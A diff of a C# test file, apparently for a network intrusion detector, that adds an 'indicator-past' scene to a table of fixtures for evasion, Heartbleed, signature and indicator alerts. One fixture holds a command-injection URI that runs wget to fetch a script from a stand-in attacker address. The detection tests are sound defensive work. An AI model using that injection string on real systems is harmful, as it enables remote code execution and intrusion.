@@ -120,6 +120,7 @@ public class DetectorTests
         ["stream-evasion"] = () => new Scene().Claims("10.0.1.5", ClaimKind.Anomaly, "stream overlap with different content", "tcp", "tcp segments"),
         ["signature-alert"] = () => new Scene().Says("alerts", "203.0.113.9", "10.0.9.9", 80, """{"signature_id":2024897,"msg":"a known attack","priority":1,"direction":"to_server","classtype":"web-application-attack","packet":7}"""),
         ["indicator-hit"] = () => new Scene(indicators: IndicatorSet.Of([new Indicator(IndicatorKind.Address, "203.0.113.9") { Source = "a list" }])).Conversation("10.0.1.5", "203.0.113.9", 443, service: "ssl"),
+        ["indicator-past"] = () => new Scene().Past(IndicatorSet.Of([new Indicator(IndicatorKind.Address, "203.0.113.9") { Source = "a list" }]), "10.0.1.5", "203.0.113.9"),
         ["heartbleed"] = () => new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","heartbeat_overread":16381}"""),
         ["web-attack"] = () => new Scene().Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/cgi?x=;wget http://203.0.113.9/a.sh","status_code":404}"""),
         ["upload-to-unnamed-host"] = () => new Scene().Says("http", "10.0.1.5", "203.0.113.9", 7080, """{"method":"POST","host":"203.0.113.9:7080","uri":"/x","user_agent":"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0)","status_code":200}"""),
